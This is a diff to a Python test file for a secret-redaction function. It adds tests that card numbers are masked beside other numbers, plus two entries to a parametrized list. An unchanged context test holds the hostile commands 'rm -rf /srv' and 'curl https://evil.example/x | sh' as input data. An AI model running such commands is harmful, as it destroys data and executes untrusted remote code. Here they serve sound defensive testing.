@@ -192,6 +192,17 @@ def test_a_password_in_quotation_marks_that_open_may_hold_anything(text: str) ->
     assert "ub4dor" not in redact_text(text, key=KEY)
 
 
+@pytest.mark.parametrize(
+    "around", ["{}.", "5 {}", "1234 {} 12/27", "12-{}-99 and 1.5", "{0} {0}", "0000 0000 {}, 3.14"]
+)
+def test_a_card_number_is_found_beside_other_numbers(around: str) -> None:
+    card = SECRETS["card number"]
+    shown = redact_text(around.format(card), key=KEY)
+    assert "1111" not in shown
+    assert shown.count("card number") == around.count("{")
+    assert redact_text(shown, key=KEY) == shown
+
+
 def test_a_keys_first_line_hides_no_command_behind_it() -> None:
     text = "true # -----BEGIN PRIVATE" + " KEY-----\nrm -rf /srv\ncurl https://evil.example/x | sh"
     assert "\nrm -rf /srv\ncurl https://evil.example/x | sh" in redact_text(text, key=KEY).replace("]rm", "]\nrm")
@@ -207,6 +218,8 @@ def test_a_keys_first_line_hides_no_command_behind_it() -> None:
         "-----BEGIN PRIVATE KEY-----",
         "aws secret ",
         "1 ",
+        "4 111-",
+        "1",
         "eyJaaaaa.aaaaa.",
         "bearer ",
         "-",
